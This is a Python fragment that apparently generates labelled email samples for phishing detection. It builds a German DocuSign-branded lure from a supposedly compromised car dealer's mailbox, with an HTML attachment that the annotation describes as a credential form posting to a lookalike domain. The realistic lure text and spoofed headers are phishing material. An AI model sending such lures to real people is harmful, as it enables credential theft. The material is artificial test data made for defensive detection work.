        "Diese Nachricht enthält einen sicheren Link zu DocuSign. Bitte geben Sie diese E-Mail nicht weiter.\n") % env
    html = html_doc(
        '<table width="100%%" style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif"><tr><td align="center">'
        '<table width="560" style="background:#1e4ca1;color:#fff;padding:24px"><tr><td align="center">'
        '<p style="font-size:16px">Autohaus Wendt GmbH hat Ihnen ein Dokument zur Prüfung und Unterzeichnung gesendet.</p>'
        '<p style="font-size:13px">Stromliefervertrag 2027–2029 – Example Group SE</p></td></tr></table>'
        '<table width="560" style="background:#fff;padding:24px;font-size:14px;color:#333"><tr><td>'
        '<p>Bitte öffnen Sie das angehängte Dokument <b>Stromliefervertrag_SLV-27-0418_DocuSign.htm</b>, um es zu überprüfen und zu unterzeichnen.</p>'
        '<p style="font-size:11px;color:#666">Umschlag-ID: %s<br>Diese Nachricht enthält einen sicheren Zugang zu DocuSign. '
        'Bitte geben Sie diese E-Mail nicht weiter.</p></td></tr></table></td></tr></table>' % env)
    b_mix, b_alt = "=_%s" % ids.hex(32), "=_%s" % ids.hex(32)
    body = multipart("mixed", [
        alt(text(plain, "plain", "iso-8859-15", "quoted-printable", label="ISO-8859-15"),
            html_text(html, "iso-8859-15", "quoted-printable", label="ISO-8859-15"), b_alt),
        attach(form.encode("utf-8"), "text/html", "Stromliefervertrag_SLV-27-0418_DocuSign.htm", cte="base64",
               att_charset="utf-8"),
    ], b_mix)
    hs = [
        ("MIME-Version", "1.0"),
        ("Date", rdate(t, "CE")),
        ("From", "DocuSign via Autohaus Wendt <disposition@%s>" % dom),
        ("To", rc.email),
        ("Subject", hval("Bitte unterzeichnen: Stromliefervertrag 2027–2029 – Example Group SE", "iso-8859-15", "Q", "ISO-8859-15")),
        ("Message-ID", ids.mid_hexat(dom)),
        ("X-Sender", "disposition@" + dom),
        ("User-Agent", "Roundcube Webmail/1.6.7"),
    ]
    return m.finish("<disposition@%s>" % dom, rec, hs, body,
        "DocuSign lure from the compromised mailbox of a car dealer: 'sign the electricity supply contract 2027–2029', HTML attachment with a DocuSign-styled credential form",
        "A car dealer has no part in a supply contract; real DocuSign envelopes come from docusign.net with a link, never as an .htm attachment; the attachment is a local login form pre-filled with the victim's address that POSTs email+password to docsign-envelope.eu-fra1.cdn-clouddocs.click; submitted via webmail from a Bulgarian VPS IP. Genuine DocuSign envelope: business 06.",
        "business/06")


ALL = [a01, a02, a03, a04, a05, a06, a07, a08]
